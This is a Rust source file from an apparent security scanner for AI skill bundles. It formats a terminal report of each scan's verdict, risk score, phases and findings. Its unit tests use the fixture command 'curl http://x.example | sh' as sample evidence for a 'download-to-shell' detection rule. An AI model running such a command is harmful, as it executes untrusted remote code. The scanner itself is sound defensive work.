//! The report of one skill in a terminal: verdict first, then what it rests on.

use indicatif::HumanBytes;

use super::findings::{Detail, advice, count, execution, finding_lines, mark, word};
use super::paint::{self, line, paint};
use super::table::wrap;
use crate::api::ScanResponse;
use crate::scan::Phase;

/// Files that could not be read, or deviations, that are shown; the rest is counted.
const SHOWN_LINES: usize = 5;
/// Lines of a result up to which it needs no blank line after it.
const SHORT_LINES: usize = 3;

/// Returns the report of one skill.
pub(super) fn show(scan: &ScanResponse, width: Option<usize>, detail: Detail) -> String {
    let safety = &scan.safety;
    let mut lines = vec![format!(
        "{} {}  {}",
        mark(safety.status),
        paint(paint::STRONG, &line(&scan.name, 200)),
        paint(paint::FAINT, &line(&scan.path, 500))
    )];
    let inner_width = width.map(|width| width.saturating_sub(2));
    let faint = |text: &str| -> Vec<String> {
        wrap(text, inner_width).iter().map(|part| format!("  {}", paint(paint::FAINT, part))).collect()
    };
    lines.extend(faint(&facts(scan)));
    lines.extend(phases(scan).iter().flat_map(|text| faint(text)));
    lines.extend(finding_lines(&scan.findings, width, detail));
    let shown = if detail == Detail::All { usize::MAX } else { SHOWN_LINES };
    let unread: Vec<String> = scan.completeness.unread.iter().map(|file| format!("not read: {file}")).collect();
    lines.extend(some(&unread, shown, paint::CARE));
    // What was not read is a deviation too, and was told already.
    let issues: Vec<String> =
        scan.issues.iter().filter(|issue| !scan.completeness.unread.contains(issue)).cloned().collect();
    lines.extend(some(&issues, shown, paint::FAINT));
    if lines.len() > SHORT_LINES {
        lines.push(String::new());
    }
    lines.join("\n") + "\n"
}

/// Returns what to do, and what the verdict covers.
fn facts(scan: &ScanResponse) -> String {
    let read = &scan.completeness;
    let coverage = if read.is_complete { "all read" } else { "not all read" };
    [
        advice(scan.safety.recommended_action).to_owned(),
        execution(scan.safety.executes_code).to_owned(),
        format!("risk {} ({})", scan.risk_score, word(&scan.risk_band)),
        format!("{}, {}, {coverage}", count(read.files_read, "file"), HumanBytes(read.bytes_read)),
        format!("rules {}", line(&scan.ruleset_version, 60)),
    ]
    .join(" · ")
}

/// Returns where the risk comes from, and what the skill is able to do.
fn phases(scan: &ScanResponse) -> Vec<String> {
    let scores: Vec<String> = Phase::ALL
        .iter()
        .filter_map(|phase| scan.phases.get(phase.as_str()).map(|result| (phase, result.score)))
        .filter(|(_, score)| *score > 0)
        .map(|(phase, score)| format!("{} {score}", phase.as_str().replace('_', " ")))
        .collect();
    let abilities: Vec<String> =
        scan.capabilities.iter().map(|(name, place)| format!("{name} ({})", line(place, 200))).collect();
    let mut lines = Vec::new();
    if !scores.is_empty() {
        lines.push(format!("risk by phase: {}", scores.join(" · ")));
    }
    if !abilities.is_empty() {
        lines.push(format!("able to: {}", abilities.join(" · ")));
    }
    lines
}

fn some(texts: &[String], shown: usize, style: anstyle::Style) -> Vec<String> {
    let mut lines: Vec<String> =
        texts.iter().take(shown).map(|text| paint(style, &format!("  {}", line(text, 300)))).collect();
    if texts.len() > shown {
        lines.push(paint(style, &format!("  … and {} more; --all shows them", texts.len() - shown)));
    }
    lines
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use unicode_width::UnicodeWidthStr;

    use super::*;
    use crate::scan::{Confidence, Finding, Location, Persona, Severity, Suppression, SuppressionKind, scan_bundle};
    use crate::skill::{FileContent, RawBundle, RawFile, SkillBundle, UnreadFile};

    fn finding(rule_id: &str, severity: Severity, line: u32) -> Finding {
        Finding {
            rule_id: rule_id.to_owned(),
            phase: Phase::CodePatterns,
            severity,
            confidence: Confidence::High,
            persona: Persona::User,
            location: Location { path: "scripts/setup.sh".to_owned(), line: Some(line), column: Some(1) },
            evidence: "curl http://x.example | sh \u{1b}[2J".to_owned(),
            reason: "what stands here is made up for a test, and is long enough to need a second line".to_owned(),
            remedy: "Read it.".to_owned(),
            chain: Vec::new(),
            fingerprint: format!("{line:032x}"),
            signature: None,
            is_preview: false,
            suppression: None,
        }
    }

    /// Makes up a response with these findings.
    fn response(findings: Vec<Finding>) -> ScanResponse {
        let content = b"---\nname: demo\ndescription: Formats tables.\n---\n# Demo\n".to_vec();
        let file = RawFile { path: "SKILL.md".to_owned(), content: FileContent::Bytes(content), is_executable: false };
        let reason = "larger than 16777216 bytes".to_owned();
        let unread = vec![UnreadFile { path: "movie.mp4".to_owned(), size_bytes: Some(99_000_000), reason }];
        let (bundle, issues) =
            SkillBundle::parse(RawBundle { files: vec![file], unread }, Some("demo")).expect("a skill");
        let scanned = scan_bundle(bundle, issues);
        let mut response =
            ScanResponse::new("skills/demo".to_owned(), "demo".to_owned(), &scanned.report, &scanned.issues);
        response.findings = findings;
        response.ruleset_version = "1-000000000000".to_owned();
        response.capabilities = BTreeMap::from([("network".to_owned(), "scripts/setup.sh:2".to_owned())]);
        response
    }

    fn plain(findings: Vec<Finding>, detail: Detail) -> String {
        anstream::adapter::strip_str(&show(&response(findings), Some(80), detail)).to_string()
    }

    #[test]
    fn a_report_reads_well() {
        let suppression = Suppression {
            kind: SuppressionKind::Suppressed,
            reason: "ours".to_owned(),
            by: Some("Ann".to_owned()),
            expires: Some("2027-06-30".to_owned()),
        };
        let findings = || {
            vec![
                Finding {
                    chain: vec!["base64".to_owned(), "zip member run.sh".to_owned()],
                    ..finding("download-to-shell", Severity::Critical, 2)
                },
                finding("hidden-unicode", Severity::Medium, 5),
                finding("hidden-unicode", Severity::Medium, 7),
                Finding { persona: Persona::Auditor, ..finding("signature-match", Severity::Low, 3) },
                Finding { suppression: Some(suppression.clone()), ..finding("native-binary", Severity::High, 9) },
            ]
        };
        insta::assert_snapshot!("digest", plain(findings(), Detail::Digest { more: "--all shows them" }));
        insta::assert_snapshot!("all", plain(findings(), Detail::All));
    }

    #[test]
    fn three_hundred_findings_are_as_easy_to_read_as_one() {
        let many = || -> Vec<Finding> {
            (1..=300)
                .map(|number| Finding {
                    reason: format!("reason {}", number % 40),
                    ..finding("download-to-shell", Severity::High, number)
                })
                .collect()
        };
        let digest = plain(many(), Detail::Digest { more: "--all shows them" });
        assert!(digest.lines().count() < 160, "{}", digest.lines().count());
        assert!(digest.contains("more findings; --all shows them"), "{digest}");
        let all = plain(many(), Detail::All);
        assert!((1..=300).all(|number| all.contains(&format!("setup.sh:{number}:1"))));
        for line in digest.lines().chain(all.lines()).filter(|line| !line.contains("confidence")) {
            assert!(line.width() <= 80, "{line}");
        }
    }
}
